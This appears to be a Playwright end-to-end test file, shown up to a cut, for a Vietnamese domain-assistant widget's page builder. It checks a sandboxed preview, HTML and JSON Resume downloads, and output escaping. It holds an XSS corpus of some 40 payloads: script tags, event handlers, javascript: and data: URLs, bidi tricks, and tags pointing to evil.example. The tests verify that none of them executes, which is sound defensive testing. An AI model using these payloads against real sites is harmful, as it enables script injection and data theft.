// The starter step (issue 6) in a real Chromium, reached as a visitor reaches it:
// eligibility form → names checked against a real DNS server (NSD + dnsdist DoH,
// tests/e2e/dns.mjs) → "Choose this name". Then: the sandboxed preview, an XSS corpus
// typed into every field of every template (nothing runs, nothing is fetched, nothing
// lands unescaped), real downloads (HTML equal to the preview but for its favicon; JSON Resume valid
// against the official schema of the npm package `resume-schema`), the downloaded
// page opened on its own (finished, in the widget's language, no request, axe-core
// clean), "Copy HTML", and the plain-language message beside a refused link.
import { after, before, describe, it } from "node:test";
import assert from "node:assert/strict";
import { mkdtemp, readFile, rm } from "node:fs/promises";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { distReady, hostPage, launchBrowser, newPage, readyCount, serveDist } from "./harness.mjs";
import { startDoh } from "./dns.mjs";

const require = createRequire(import.meta.url);
const resumeSchema = require("resume-schema");

let browser;
let server;
let doh;
let downloads;


// The fixture zone: of Nguyễn Văn An's first suggestions (annguyen, nguyenan,
// nguyenvanan, …), annguyen is delegated and nguyenvanan hosted; the first
// likely-available one is then nguyenan.id.vn.
before(async () => {
  await distReady();
  doh = await startDoh({ delegated: ["annguyen"], hosted: ["nguyenvanan"] });
  browser = await launchBrowser();
  server = await serveDist();
  downloads = await mkdtemp(join(tmpdir(), "vnda-starter-"));
});
after(async () => {
  await browser?.close();
  await server?.close();
  await doh?.stop();
  if (downloads) await rm(downloads, { recursive: true, force: true });
});

const VISITOR = { name: "Nguyễn Văn An", birth: "2005-03-15", id: "084205012345" };
const TODAY = "2025-06-01";

/** Accessible names, English (embed contract / src/i18n) and Vietnamese. */
const L = {
  en: {
    name: "Full name", birth: "Date of birth", id: "Citizen ID number", citizen: "I am a Vietnamese citizen",
    check: "Check", continue: "Continue: choose a name", choose: "Choose this name",
    buildPage: "Build your page while you wait for the name (optional)",
    cv: "Online CV", blog: "Personal blog", contest: "Contest entry",
    headline: "Short headline", about: "About you", organisation: "School or organisation", skills: "Skills",
    projectName: "Project name", projectDescription: "Description", projectUrl: "Address (https://…)",
    email: "E-mail", linkUrl: "Address (https://… or mailto:…)", postTitle: "Post title", postBody: "Post text",
    entryName: "Name of the entry", entryDescription: "Project description", entryUrl: "Demo address (https://…)",
    teamName: "Team name", school: "School", technologies: "Technologies used", githubUser: "Your GitHub username",
    downloadHtml: "Download HTML", downloadJson: "Download JSON Resume", copyHtml: "Copy HTML", copied: "Copied",
    urlRejected: /only https:\/\/ and mailto: addresses are accepted/,
    business: "Business page",
    businessName: "Business name", legalName: "Registered name", bizHeadline: "What it does (one line)", bizAbout: "About the business",
    offerName: "Name", price: "Price", offerDescription: "Description", address: "Address", phone: "Phone",
    zalo: "Zalo link (https://zalo.me/…)", facebook: "Facebook page (https://facebook.com/…)",
    // The hours table's fields are named by their row and column (aria-labelledby): found by role.
    mondayOpens: "Monday Opens", mondayCloses: "Monday Closes", sundayOpens: "Sunday Opens", sundayCloses: "Sunday Closes",
    role: "Role", employer: "Company or organisation", language: "Language", fluency: "Level",
    certificate: "Certificate", issuer: "Issued by", certDate: "Date", institution: "School", study: "Field of study",
    photo: "Photo", keepDraft: "Keep my answers in this tab",
  },
  vi: {
    name: "Họ và tên", birth: "Ngày sinh", id: "Số định danh cá nhân (số CCCD)", citizen: "Tôi là công dân Việt Nam",
    check: "Kiểm tra", continue: "Tiếp tục: chọn tên miền", choose: "Chọn tên này",
    buildPage: "Làm trang web của bạn trong lúc chờ cấp tên miền (không bắt buộc)",
    cv: "CV trực tuyến", blog: "Blog cá nhân", contest: "Bài dự thi",
    headline: "Dòng giới thiệu ngắn", about: "Giới thiệu bản thân", organisation: "Trường hoặc tổ chức", skills: "Kỹ năng",
    projectName: "Tên dự án", projectDescription: "Mô tả", projectUrl: "Địa chỉ (https://…)",
    email: "E-mail", linkUrl: "Địa chỉ (https://… hoặc mailto:…)", postTitle: "Tiêu đề bài viết", postBody: "Nội dung bài viết",
    entryName: "Tên dự án dự thi", entryDescription: "Mô tả dự án", entryUrl: "Địa chỉ bản chạy thử (https://…)",
    teamName: "Tên đội", school: "Trường", technologies: "Công nghệ sử dụng", githubUser: "Tên tài khoản GitHub của bạn",
    downloadHtml: "Tải về HTML", downloadJson: "Tải về JSON Resume", copyHtml: "Sao chép HTML", copied: "Đã sao chép",
    urlRejected: /chỉ nhận địa chỉ https:\/\/ hoặc mailto:/,
    business: "Trang kinh doanh",
  },
};

/** The section headings (h2) each generated page must carry, per language. */
const HEADINGS = {
  en: { cv: ["Profile", "Skills", "Projects", "Links"], blog: ["About me"], contest: ["About the project", "For the judges"] },
  vi: { cv: ["Giới thiệu", "Kỹ năng", "Dự án", "Liên kết"], blog: ["Về tôi"], contest: ["Giới thiệu dự án", "Dành cho ban giám khảo"] },
};

/** Which fields each template shows (keys of L), besides E-mail, the link and the GitHub user. */
const FORM = {
  cv: {
    text: ["headline", "about", "organisation", "institution", "study", "skills", "projectName", "projectDescription", "role", "employer", "language", "fluency", "certificate", "issuer", "certDate"],
    url: ["projectUrl"],
    last: "headline",
    // Lists that start empty: one entry each, added before typing.
    add: ["Add experience", "Add language", "Add certificate"],
  },
  blog: { text: ["headline", "about", "postTitle", "postBody"], url: [], last: "headline" },
  contest: { text: ["entryName", "entryDescription", "school", "technologies", "teamName"], url: ["entryUrl"], last: "teamName" },
  business: {
    text: ["businessName", "legalName", "bizAbout", "offerName", "price", "offerDescription", "mondayOpens", "mondayCloses", "address", "phone"],
    url: ["zalo", "facebook"],
    last: "bizHeadline",
  },
};
const COMMON = { text: ["email", "githubUser"], url: ["linkUrl"] };

const CSP = "default-src 'none'; style-src 'unsafe-inline'; img-src data:";
const CSP_META = `<meta http-equiv="Content-Security-Policy" content="${CSP}">`;
/** The page without its own data: URLs (the CSP's img-src, the favicon), to look for typed ones. */
// The preview is the file without its favicon (a frame shows none, and a srcdoc
// frame inherits the host's CSP, where a strict img-src would refuse it).
const ICON = /<link rel="icon" href="data:image\/svg\+xml,[^"]*">\n/;
const asPreviewed = (file) => {
  assert.equal(file.split('rel="icon"').length - 1, 1, "the file has its favicon");
  return file.replace(ICON, "");
};
const withoutOwnData = (html) => html.replace(CSP_META, "").replace(/<link rel="icon" href="data:image\/svg\+xml,[^"]*">/, "");

let pageNo = 0;

/**
 * A host page with one widget in `lang`, walked to the starter step. Records
 * dialogs; `since()` lists the requests made after the starter step appeared.
 */
async function toStarter(lang = "en") {
  await distReady();
  const t = L[lang];
  const path = `/t/starter-${++pageNo}.html`;
  const ctx = await newPage(browser, server.url, {
    pages: {
      [path]: hostPage(
        `<vn-domain-assistant id="w" lang="${lang}" program="id" today="${TODAY}" doh="${doh.url}"></vn-domain-assistant>`,
      ),
    },
  });
  const { page } = ctx;
  const dialogs = [];
  page.on("dialog", (d) => {
    dialogs.push(`${d.type()}: ${d.message()}`);
    d.dismiss().catch(() => {});
  });
  await page.goto(server.url + path);
  await readyCount(page, 1);
  const w = page.locator("#w");
  await field(w, t.name).fill(VISITOR.name);
  await field(w, t.birth).fill(VISITOR.birth);
  await field(w, t.id).fill(VISITOR.id);
  await w.getByRole("checkbox", { name: t.citizen }).check();
  await w.getByRole("button", { name: t.check, exact: true }).click();
  await w.getByRole("button", { name: t.continue }).click();
  const available = w.locator('li[data-status="likely-available"]').first();
  await available.waitFor();
  const domain = await available.getAttribute("data-domain");
  assert.match(domain, /^[a-z0-9-]+\.id\.vn$/);
  await available.getByRole("button", { name: t.choose }).click();
  await page.waitForFunction(() => window.events.some((e) => e.name === "vnda:select"));
  // The name first: the registrars, then the page, offered there.
  await w.locator("a[data-registrar]").first().waitFor();
  assert.equal(await w.locator("iframe.preview").count(), 0, "no page builder before the registrars");
  await w.getByRole("button", { name: t.buildPage }).click();
  const iframe = w.locator("iframe.preview");
  await iframe.waitFor();
  const frame = await (await iframe.elementHandle()).contentFrame();
  await frame.waitForFunction(() => document.querySelector("h1"), null, { polling: 50 });
  const mark = ctx.requests.length;
  return {
    ...ctx,
    t,
    lang,
    w,
    domain,
    dialogs,
    iframe,
    frame,
    srcdoc: () => iframe.getAttribute("srcdoc"),
    since: () => ctx.requests.slice(mark).map((r) => `${r.method} ${r.url}`),
  };
}

// (The first: a label such as "Description" is on a project and on an experience.)
const field = (w, label) =>
  (/ (Opens|Closes)$/.test(label) ? w.getByRole("textbox", { name: label, exact: true }) : w.getByLabel(label, { exact: true })).first();

async function useTemplate(ctx, template) {
  await ctx.w.getByRole("radio", { name: ctx.t[template] }).check();
}

/**
 * Fills `values` ({ key of L: text }), `anchor` last, then waits until both the
 * preview's srcdoc and the preview frame's document show `anchorToken` (the preview
 * is debounced: the render that shows the last field filled shows all of them).
 */
async function fillAndSettle(ctx, values, anchorKey, anchorValue, anchorToken) {
  for (const [key, value] of Object.entries(values)) {
    if (key !== anchorKey) await field(ctx.w, ctx.t[key]).fill(value);
  }
  await field(ctx.w, ctx.t[anchorKey]).fill(anchorValue);
  await settled(ctx, anchorToken);
}

async function settled(ctx, token) {
  await ctx.page.waitForFunction(
    (tok) => document.querySelector("#w").shadowRoot.querySelector("iframe.preview")?.getAttribute("srcdoc")?.includes(tok),
    token,
    { polling: 50, timeout: 5000 },
  );
  await ctx.frame.waitForFunction((tok) => document.documentElement?.outerHTML.includes(tok), token, {
    polling: 50,
    timeout: 5000,
  });
}

/** Clicks `button` and returns the real download: { name, text, download }. */
async function download(ctx, button) {
  const [dl] = await Promise.all([
    ctx.page.waitForEvent("download", { timeout: 5000 }),
    ctx.w.getByRole("button", { name: button, exact: true }).click(),
  ]);
  const text = await readFile(await dl.path(), "utf8");
  return { name: dl.suggestedFilename(), text, download: dl };
}

function validateResume(json) {
  return new Promise((ok) =>
    resumeSchema.validate(json, (err, result) => ok({ errors: err ?? [], valid: !err && result?.valid === true })),
  );
}

function collectUrls(v, out = []) {
  if (Array.isArray(v)) v.forEach((x) => collectUrls(x, out));
  else if (v && typeof v === "object") {
    for (const [k, x] of Object.entries(v)) {
      if (k === "url" && typeof x === "string") out.push(x);
      else collectUrls(x, out);
    }
  }
  return out;
}

// ---------------------------------------------------------------------------
// A strict reader of the generated HTML (the templates' own conventions: every `<`
// starts a tag, attribute values are double-quoted and escaped).

const TAGS = {
  common: ["!doctype", "html", "head", "meta", "title", "style", "link", "body", "header", "h1", "p", "main", "section", "h2", "h3", "ul", "li", "a", "br", "footer", "img", "dl", "dt", "dd"],
  cv: [],
  blog: ["article"],
  contest: [],
  // Its one schema.org LocalBusiness block (checked below: exactly one, that type).
  business: ["script"],
};
const ATTRIBUTES = ["lang", "charset", "http-equiv", "content", "name", "property", "media", "rel", "class", "id", "aria-labelledby", "href", "src", "alt", "width", "height", "type"];
/** The page's own data: URLs: its favicon (URL-encoded SVG of the initials) and the photo (base64 JPEG/WebP). */
const ICON_HREF = /^data:image\/svg\+xml,[A-Za-z0-9%._~!*()-]*$/;
const PHOTO_SRC = /^data:image\/(jpeg|webp);base64,[A-Za-z0-9+/]+={0,2}$/;

const unescapeAttr = (s) =>
  s.replaceAll("&quot;", '"').replaceAll("&#39;", "'").replaceAll("&lt;", "<").replaceAll("&gt;", ">").replaceAll("&amp;", "&");

/** Every tag of `html`; throws on a `<` that does not start a well-formed tag. */
function scanTags(html) {
  const tags = [];
  const tagRe = /<(\/?)(!DOCTYPE|[a-zA-Z][a-zA-Z0-9]*)([^<>]*)>/y;
  const attrRe = /\s+([^\s"'<>\/=]+)(?:="([^"<>]*)")?/y;
  let at = html.indexOf("<");
  while (at !== -1) {
    tagRe.lastIndex = at;
    const m = tagRe.exec(html);
    if (!m) throw new Error(`stray "<" at ${at}: ${JSON.stringify(html.slice(at, at + 60))}`);
    const [, closing, rawName, rawAttrs] = m;
    const attrs = [];
    let i = 0;
    const body = rawAttrs.replace(/\s*$/, "");
    while (i < body.length) {
      attrRe.lastIndex = i;
      const a = attrRe.exec(body);
      if (!a) throw new Error(`malformed attributes in ${m[0]}`);
      attrs.push([a[1].toLowerCase(), a[2] === undefined ? null : unescapeAttr(a[2])]);
      i = attrRe.lastIndex;
    }
    tags.push({ name: rawName.toLowerCase(), closing: closing === "/", attrs, raw: m[0] });
    at = html.indexOf("<", tagRe.lastIndex);
  }
  return tags;
}

/** What the page's cleaning makes of a single line (controls and bidi removed, spaces collapsed). */
const cleanLine = (s) =>
  s
    .replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff]/g, "")
    .replace(/\s+/g, " ")
    .trim();
const escapeHtml = (s) =>
  s.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll('"', "&quot;").replaceAll("'", "&#39;");

/** Forms a typed payload could take in the output if it were written unescaped. */
function rawForms(payload) {
  const forms = new Set([payload]);
  // What the cleaning removes or turns into spaces.
  const cleaned = payload
    .replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff]/g, "")
    .replace(/[\t\n\r]/g, " ");
  forms.add(cleaned);
  forms.add(cleaned.trim());
  forms.add(cleaned.replace(/ +/g, " ").trim());
  return [...forms].filter((f) => /[<>"']/.test(f));
}

/**
 * Asserts the generated page `html` of `template` in `lang` is safe: only the
 * template's tags and attributes, no handler, only https:/mailto: addresses, the
 * CSP first in <head>, one h1, and none of `payloads` written unescaped.
 */
function assertSafeHtml(html, template, lang, payloads = [], what = "", { file = false } = {}) {
  let tags;
  try {
    tags = scanTags(html);
  } catch (e) {
    assert.fail(`${what}: ${e.message}`);
  }
  const allowed = new Set([...TAGS.common, ...TAGS[template]]);
  for (const tag of tags.filter((t) => !t.closing)) {
    assert.ok(allowed.has(tag.name), `${what}: unexpected tag ${tag.raw}`);
    for (const [name, value] of tag.attrs) {
      if (tag.name === "!doctype") continue;
      assert.ok(!name.startsWith("on"), `${what}: event handler attribute in ${tag.raw}`);
      assert.ok(ATTRIBUTES.includes(name), `${what}: unexpected attribute ${name} in ${tag.raw}`);
      if (name === "href" && tag.name === "link") {
        assert.ok(tag.attrs.some(([n, v]) => n === "rel" && v === "icon"), `${what}: a <link> that is not the icon: ${tag.raw}`);
        assert.match(value ?? "", ICON_HREF, `${what}: icon href ${JSON.stringify(value)}`);
      } else if (name === "href") {
        assert.match(value ?? "", /^(https:\/\/|mailto:|tel:\+?[0-9]+$)/, `${what}: href ${JSON.stringify(value)}`);
        assert.doesNotMatch(value, /[\s\u0000-\u001f\u007f-\uffff]/, `${what}: href ${JSON.stringify(value)}`);
        assert.doesNotMatch(value, /javascript:|data:|vbscript:/i, `${what}: href ${JSON.stringify(value)}`);
      }
      if (name === "src") {
        assert.equal(tag.name, "img", `${what}: src on ${tag.raw}`);
        assert.match(value ?? "", PHOTO_SRC, `${what}: img src ${JSON.stringify((value ?? "").slice(0, 60))}`);
      }
      if (name === "type") assert.ok(tag.name === "script" && value === "application/ld+json", `${what}: ${tag.raw}`);
      if (name === "http-equiv") assert.equal(value, "Content-Security-Policy", `${what}: ${tag.raw}`);
    }
  }
  const lower = html.toLowerCase();
  for (const forbidden of ["<iframe", "<svg", "<base", "<details", "<!--", "<object", "<embed", "<form"]) {
    assert.ok(!lower.includes(forbidden), `${what}: ${forbidden} in the page`);
  }
  assert.doesNotMatch(html, /[\u0000\u202a-\u202e\u2066-\u2069]/, `${what}: NUL or bidi control in the page`);
  assert.equal(html.split(CSP_META).length - 1, 1, `${what}: one CSP <meta>`);
  assert.ok(
    html.startsWith(`<!DOCTYPE html>\n<html lang="${lang}">\n<head>\n<meta charset="utf-8">\n${CSP_META}\n`),
    `${what}: the page does not start with doctype, lang, charset and CSP: ${JSON.stringify(html.slice(0, 200))}`,
  );
  const opening = (n) => tags.filter((t) => !t.closing && t.name === n).length;
  const scripts = template === "business" ? 1 : 0;
  for (const [n, count] of [["h1", 1], ["title", 1], ["style", 1], ["header", 1], ["main", 1], ["footer", 1], ["script", scripts], ["link", file ? 1 : 0]]) {
    assert.equal(opening(n), count, `${what}: <${n}> count`);
  }
  for (const tag of tags.filter((t) => !t.closing && t.name === "script")) {
    assert.deepEqual(tag.attrs, [["type", "application/ld+json"]], `${what}: ${tag.raw}`);
  }
  for (const payload of payloads) {
    for (const form of rawForms(payload)) {
      assert.ok(!html.includes(form), `${what}: payload ${JSON.stringify(form)} appears unescaped`);
    }
  }
}

/** What the browser built from the preview: checked inside the (sandboxed) frame. */
const frameFacts = (frame) =>
  frame.evaluate(() => {
    const bad = [];
    const forbiddenTags = new Set(["script", "iframe", "img", "svg", "base", "object", "embed", "details", "link", "form", "input", "textarea", "button", "frame", "video", "audio", "source"]);
    for (const el of document.querySelectorAll("*")) {
      const tag = el.tagName.toLowerCase();
      const own =
        (tag === "script" && el.getAttribute("type") === "application/ld+json" && el.attributes.length === 1) ||
        (tag === "img" && /^data:image\/(jpeg|webp);base64,[A-Za-z0-9+/]+=*$/.test(el.getAttribute("src") ?? "")) ||
        (tag === "link" && el.getAttribute("rel") === "icon" && /^data:image\/svg\+xml,/.test(el.getAttribute("href") ?? ""));
      if (forbiddenTags.has(tag) && !own) bad.push(`<${tag}>`);
      for (const a of el.attributes) {
        if (tag === "img" && own && a.name === "src") continue;
        if (/^on/i.test(a.name) || ["src", "srcdoc", "srcset", "action", "formaction", "style", "xlink:href", "autofocus", "background"].includes(a.name)) {
          bad.push(`${tag}[${a.name}=${a.value}]`);
        }
      }
    }
    for (const el of document.querySelectorAll("[href]")) {
      const url = new URL(el.getAttribute("href"), "https://base.invalid/");
      const icon = el.matches('link[rel="icon"]') && url.protocol === "data:";
      if (!["https:", "mailto:", "tel:"].includes(url.protocol) && !icon) bad.push(`href ${el.getAttribute("href")}`);
    }
    for (const m of document.querySelectorAll("meta[http-equiv]")) {
      if (m.getAttribute("http-equiv") !== "Content-Security-Policy") bad.push(`meta http-equiv=${m.getAttribute("http-equiv")}`);
    }
    return {
      bad,
      pwned: typeof window.pwned,
      h1: [...document.querySelectorAll("h1")].map((h) => h.textContent),
      styles: [...document.querySelectorAll("style")].map((s) => s.textContent),
      // Scripts that could run: a JSON-LD block is data.
      scripts: [...document.scripts].filter((s) => s.type !== "application/ld+json").length,
      jsonLd: [...document.scripts].filter((s) => s.type === "application/ld+json").map((s) => JSON.parse(s.textContent)),
    };
  });

/** No handler attribute, script or injected element in the widget's own shadow DOM. */
const widgetInjected = (page) =>
  page.evaluate(() => {
    const root = document.querySelector("#w").shadowRoot;
    const bad = [];
    for (const el of root.querySelectorAll("*")) {
      if (["script", "img", "svg", "iframe", "object", "embed", "base", "details"].includes(el.tagName.toLowerCase()) && !el.matches("iframe.preview, details.about, img.thumb")) {
        bad.push(el.tagName);
      }
      for (const a of el.attributes) if (/^on/i.test(a.name)) bad.push(`${el.tagName}[${a.name}]`);
    }
    return bad;
  });

// ---------------------------------------------------------------------------
// The XSS corpus (the native suite's idea, tests/starter.rs, made observable:
// a payload that ran would set window.pwned, open a dialog or fetch something).

const PAYLOADS = [
  "<script>window.pwned=1</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "\"><img src=x onerror=window.pwned=1>",
  "<img src=https://evil.example/pixel.png>",
  "\"><svg onload=window.pwned=1>",
  "<svg/onload=window.pwned=1>",
  "' onmouseover='window.pwned=1",
  "\" onfocus=\"window.pwned=1\" autofocus=\"",
  "<details open ontoggle=window.pwned=1>",
  "javascript:window.pwned=1",
  "JaVaScRiPt:window.pwned=1",
  "java\tscript:window.pwned=1",
  "java\nscript:window.pwned=1",
  "\u0001javascript:window.pwned=1",
  " javascript\u0000:window.pwned=1",
  "&#106;avascript:window.pwned=1",
  "&#106;&#97;vascript:window.pwned=1",
  "javascript&#58;window.pwned=1",
  "&#x6A;avascript&colon;window.pwned=1",
  "data:text/html,<script>window.pwned=1</script>",
  "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
  "vbscript:msgbox(1)",
  "</style><script>window.pwned=1</script>",
  "</title><script>window.pwned=1</script>",
  "</textarea><script>window.pwned=1</script>",
  "<!-- x --><script>window.pwned=1</script>",
  "<a href=\"javascript:window.pwned=1\">click</a>",
  "https://example.com/\"><script>window.pwned=1</script>",
  "https://example.com/' onclick='window.pwned=1",
  "mailto:a@b.vn?body=<script>window.pwned=1</script>",
  "<style>body{display:none}</style>",
  "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
  "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
  "<base href=\"https://evil.example/\">",
  "\u202elmth.exe\u202c <b>x</b>",
  "\u2066<i>\u2069isolate",
  "a\u0000b<script>window.pwned=1</script>",
  "＜script＞window.pwned=1＜/script＞",
  "ｊａｖａｓｃｒｉｐｔ：window.pwned=1",
  "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
  "<script>alert(1)</script>",
  "\"><img src=x onerror=alert(document.domain)>",
];

describe("the starter step", () => {
  it("previews in an iframe with an empty sandbox and a srcdoc showing the visitor's name and the chosen name; templates switch the preview", async () => {
    const ctx = await toStarter("en");
    const { iframe, frame, domain } = ctx;
    const sandbox = await iframe.evaluate((el) => ({
      has: el.hasAttribute("sandbox"),
      value: el.getAttribute("sandbox"),
      tokens: el.sandbox.length,
      srcdoc: el.hasAttribute("srcdoc"),
      src: el.getAttribute("src"),
    }));
    assert.deepEqual(sandbox, { has: true, value: "", tokens: 0, srcdoc: true, src: null });
    const html = await ctx.srcdoc();
    assert.ok(html.length > 500, "srcdoc holds a page");
    assertSafeHtml(html, "cv", "en", [], "initial preview");

    // The frame's own document: the visitor's name as h1, the chosen name linked.
    const cv = await frame.evaluate(() => ({
      lang: document.documentElement.lang,
      title: document.title,
      h1: [...document.querySelectorAll("h1")].map((h) => h.textContent),
      links: [...document.querySelectorAll("a[href]")].map((a) => [a.getAttribute("href"), a.textContent]),
      scripts: document.scripts.length,
    }));
    assert.equal(cv.lang, "en");
    assert.deepEqual(cv.h1, [VISITOR.name]);
    assert.equal(cv.title, `${VISITOR.name} — CV`);
    assert.ok(cv.links.some(([href, text]) => href === `https://${domain}/` && text === domain), `a link to ${domain}: ${JSON.stringify(cv.links)}`);
    assert.equal(cv.scripts, 0);
    // A sandboxed srcdoc document has an opaque origin: it cannot reach the host page.
    assert.equal(await frame.evaluate(() => window.origin), "null");

    // The preview follows typing (after a short pause).
    const typedAt = Date.now();
    await field(ctx.w, "Short headline").fill("Third-year IT student");
    await settled(ctx, "Third-year IT student");
    assert.ok(Date.now() - typedAt < 3000, "the preview followed typing within 3 s");
    assert.equal(await frame.evaluate(() => document.querySelector("header .lead")?.textContent), "Third-year IT student");

    // Blog: the first post (a default one in the page's language) and the name.
    await useTemplate(ctx, "blog");
    await settled(ctx, "<article");
    const blog = await frame.evaluate(() => ({
      h1: [...document.querySelectorAll("h1")].map((h) => h.textContent),
      h2: [...document.querySelectorAll("h2")].map((h) => h.textContent),
      article: !!document.querySelector("main article"),
      title: document.title,
      footer: document.querySelector("footer")?.textContent,
    }));
    assert.deepEqual(blog.h1, [VISITOR.name]);
    assert.equal(blog.h2[0], "Hello!");
    assert.ok(blog.article);
    assert.equal(blog.title, `${VISITOR.name} — Blog`);
    assert.match(blog.footer, new RegExp(domain.replaceAll(".", "\\.")));
    assertSafeHtml(await ctx.srcdoc(), "blog", "en", [], "blog preview");

    // Contest: the kicker, the default entry heading, the judges' section, the contact.
    await useTemplate(ctx, "contest");
    await settled(ctx, "class=\"kicker\"");
    const contest = await frame.evaluate(() => ({
      kicker: document.querySelector(".kicker")?.textContent,
      h1: [...document.querySelectorAll("h1")].map((h) => h.textContent),
      h2: [...document.querySelectorAll("h2")].map((h) => h.textContent),
      footer: document.querySelector("footer")?.textContent,
    }));
    assert.equal(contest.kicker, "Contest entry");
    assert.deepEqual(contest.h1, ["Our contest entry"]);
    assert.ok(contest.h2.includes("For the judges"), JSON.stringify(contest.h2));
    assert.match(contest.footer, new RegExp(`Contact: ${VISITOR.name}`));
    assertSafeHtml(await ctx.srcdoc(), "contest", "en", [], "contest preview");

    // And back.
    await useTemplate(ctx, "cv");
    await settled(ctx, "<h1>Nguyễn Văn An</h1>\n<p class=\"lead\">Third-year IT student</p>");
    assert.deepEqual(await frame.evaluate(() => document.querySelector(".kicker")), null);

    assert.deepEqual(ctx.dialogs, []);
    assert.deepEqual(ctx.since(), [], "requests while previewing");
    assert.deepEqual(ctx.errors, [], "console errors");
    await ctx.context.close();
  });

  it(`an XSS corpus of ${PAYLOADS.length} payloads in every field of every template runs nothing, fetches nothing and never lands unescaped — in the preview, the download and the JSON Resume`, async () => {
    assert.ok(PAYLOADS.length >= 20);
    const ctx = await toStarter("en");
    let n = 0;
    for (const template of ["cv", "blog", "contest", "business"]) {
      await useTemplate(ctx, template);
      const form = FORM[template];
      for (const add of form.add ?? []) await ctx.w.getByRole("button", { name: add, exact: true }).click();
      // The preview shows this template (its document title says which) before typing.
      await settled(ctx, { cv: " — CV</title>", blog: " — Blog</title>", contest: " — Contest entry</title>", business: '<script type="application/ld+json">' }[template]);
      const [style] = (await frameFacts(ctx.frame)).styles;
      assert.ok(style.length > 500, "the template's style sheet");
      for (const payload of PAYLOADS) {
        n++;
        const what = `${template} #${n} ${JSON.stringify(payload)}`;
        const values = {};
        for (const key of [...form.url, ...COMMON.url]) values[key] = payload;
        for (const key of [...COMMON.text, ...form.text]) values[key] = `${payload} m${n}x`;
        const token = `e${n}z`;
        await fillAndSettle(ctx, values, form.last, `${payload} ${token}`, token);

        const html = await ctx.srcdoc();
        assertSafeHtml(html, template, "en", [payload], `preview of ${what}`);
        // The payload was not dropped: the last field shows it, cleaned and escaped, as text.
        const typed = await field(ctx.w, L.en[form.last]).inputValue();
        assert.ok(typed.endsWith(token), `${what}: the field holds what was typed`);
        assert.ok(html.includes(escapeHtml(cleanLine(typed))), `${what}: ${JSON.stringify(escapeHtml(cleanLine(typed)))} is not in the preview`);
        assert.ok(
          (await ctx.frame.evaluate(() => document.querySelector("header .lead")?.textContent)).includes(cleanLine(typed)),
          `${what}: the preview shows the typed text as text`,
        );

        const facts = await frameFacts(ctx.frame);
        assert.deepEqual(facts.bad, [], `${what}: the preview's document`);
        assert.equal(facts.pwned, "undefined", `${what}: window.pwned in the preview frame`);
        assert.equal(facts.scripts, 0, `${what}: scripts in the preview frame`);
        assert.equal(facts.h1.length, 1, `${what}: one h1 in the preview`);
        assert.deepEqual(facts.styles, [style], `${what}: the style sheet is the template's, untouched`);

        assert.equal(await ctx.page.evaluate(() => typeof window.pwned), "undefined", `${what}: window.pwned in the page`);
        assert.deepEqual(await widgetInjected(ctx.page), [], `${what}: the widget's own DOM`);
        assert.deepEqual(ctx.dialogs, [], `${what}: dialogs`);
        assert.deepEqual(ctx.since(), [], `${what}: requests`);

        const file = await download(ctx, L.en.downloadHtml);
        assert.equal(file.name, `${ctx.domain}.html`, `${what}: file name`);
        assert.equal(asPreviewed(file.text), html, `${what}: the downloaded file is the preview and its favicon`);
        assertSafeHtml(file.text, template, "en", [payload], `download of ${what}`, { file: true });

        const resume = await download(ctx, L.en.downloadJson);
        assert.equal(resume.name, `${ctx.domain}.resume.json`);
        const json = JSON.parse(resume.text);
        const result = await validateResume(json);
        assert.ok(result.valid, `${what}: JSON Resume invalid: ${JSON.stringify(result.errors)}`);
        for (const url of collectUrls(json)) assert.match(url, /^(https:\/\/|mailto:)/, `${what}: JSON Resume url ${url}`);
        assert.deepEqual(ctx.since(), [], `${what}: requests (downloads are blobs)`);
      }
    }
    assert.deepEqual(ctx.errors, [], "console errors");
    await ctx.context.close();
  });

  it("Download HTML gives <domain>.html equal to the preview; Download JSON Resume gives <domain>.resume.json valid against the official JSON Resume schema", async () => {
    const ctx = await toStarter("en");
    // The validator is not a rubber stamp.
    assert.equal((await validateResume({ basics: { email: "not-an-address" } })).valid, false);
    assert.equal((await validateResume({ basics: { name: "A" }, invented: true })).valid, false);
    assert.equal((await validateResume({ basics: { name: "A" } })).valid, true);

    await fillAndSettle(
      ctx,
      {
        about: "I study IT at Trà Vinh University.\n\nI like building websites.",
        organisation: "Trường Đại học Trà Vinh",
        skills: "HTML, CSS; Rust",
        projectName: "Lịch thi",
        projectDescription: "An exam timetable for my class.",
        projectUrl: "https://github.com/an/lich-thi",
        email: "an.nguyen@example.com",
        linkUrl: "github.com/an",
      },
      "headline",
      "Third-year IT student",
      "Third-year IT student",
    );
    const html = await ctx.srcdoc();
    const file = await download(ctx, "Download HTML");
    assert.equal(file.name, `${ctx.domain}.html`);
    assert.equal(asPreviewed(file.text), html, "the downloaded HTML is the preview and its favicon");
    assert.ok(!html.includes('rel="icon"'), "no favicon in the preview frame");
    assertSafeHtml(file.text, "cv", "en", [], "CV download", { file: true });
    assert.ok(file.text.includes('<a href="https://github.com/an/lich-thi">Lịch thi</a>'));
    assert.ok(file.text.includes('<a href="mailto:an.nguyen@example.com" class="bare">an.nguyen@example.com</a>'));

    const resume = await download(ctx, "Download JSON Resume");
    assert.equal(resume.name, `${ctx.domain}.resume.json`);
    const json = JSON.parse(resume.text);
    const result = await validateResume(json);
    assert.ok(result.valid, `JSON Resume invalid: ${JSON.stringify(result.errors)}`);
    assert.equal(json.basics.name, VISITOR.name);
    assert.equal(json.basics.label, "Third-year IT student");
    assert.equal(json.basics.email, "an.nguyen@example.com");
    assert.equal(json.basics.url, `https://${ctx.domain}/`);
    assert.match(json.basics.summary, /Trà Vinh University/);
    assert.deepEqual(json.skills.map((s) => s.name), ["HTML", "CSS", "Rust"]);
    assert.equal(json.projects[0].name, "Lịch thi");
    assert.equal(json.projects[0].url, "https://github.com/an/lich-thi");
